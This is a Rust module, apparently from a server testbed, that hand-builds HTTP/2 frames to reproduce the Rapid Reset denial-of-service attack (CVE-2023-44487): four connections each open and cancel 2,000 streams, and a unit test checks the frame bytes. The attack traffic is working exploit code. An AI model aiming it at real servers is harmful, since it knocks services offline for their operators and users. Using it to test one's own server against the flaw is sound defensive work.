//! HTTP/2 streams that are reset as soon as they are opened (CVE-2023-44487), frame by frame: a client
//! library would not send them.

use super::{Ground, repeat};
use crate::testbed::request::CLIENT;
use std::sync::Arc;
use std::time::Duration;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::task::JoinSet;

const CONNECTIONS: usize = 4;
const PAUSE: Duration = Duration::from_millis(250);
/// Streams of one connection.
const STREAMS: u32 = 2000;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
/// `END_STREAM` and `END_HEADERS`.
const WHOLE: u8 = 5;
/// The error code `CANCEL`.
const CANCEL: [u8; 4] = [0, 0, 0, 8];

pub(super) fn begin(ground: &Arc<Ground>, tasks: &mut JoinSet<()>) {
    repeat(ground, tasks, (CONNECTIONS, PAUSE), |ground| async move {
        let mut stream = ground.endpoint.http2().tls().await?;
        ground.count();
        stream.write_all(&everything()?).await?;
        while stream.read(&mut [0; 1024]).await? > 0 {}
        Ok(())
    });
}

/// Everything that one connection sends.
fn everything() -> anyhow::Result<Vec<u8>> {
    let headers = headers(&format!("{CLIENT}/version"))?;
    let mut bytes = PREFACE.to_vec();
    frame(&mut bytes, (SETTINGS, 0), 0, &[])?;
    for number in 0..STREAMS {
        // Those of clients are odd.
        let id = number * 2 + 1;
        frame(&mut bytes, (HEADERS, WHOLE), id, &headers)?;
        frame(&mut bytes, (RST_STREAM, 0), id, &CANCEL)?;
    }
    Ok(bytes)
}

fn frame(into: &mut Vec<u8>, (kind, flags): (u8, u8), id: u32, body: &[u8]) -> anyhow::Result<()> {
    let [_, length @ ..] = u32::try_from(body.len())?.to_be_bytes();
    into.extend(length);
    into.extend([kind, flags]);
    into.extend(id.to_be_bytes());
    into.extend(body);
    Ok(())
}

/// A GET in HPACK: `:method: GET` and `:scheme: https` out of the static table, then two names of it
/// with values of our own, which are to be kept nowhere.
fn headers(path: &str) -> anyhow::Result<Vec<u8>> {
    let mut block = vec![0x82, 0x87];
    for (name, value) in [(0x04, path), (0x01, "localhost")] {
        block.extend([name, u8::try_from(value.len())?]);
        block.extend(value.as_bytes());
    }
    Ok(block)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn frames_are_as_the_standard_writes_them() {
        let mut bytes = Vec::new();
        frame(&mut bytes, (RST_STREAM, 0), 257, &CANCEL).unwrap();
        assert_eq!(bytes, [0, 0, 4, 3, 0, 0, 0, 1, 1, 0, 0, 0, 8]);
        assert_eq!(
            headers("/x").unwrap(),
            b"\x82\x87\x04\x02/x\x01\x09localhost"
        );
    }
}
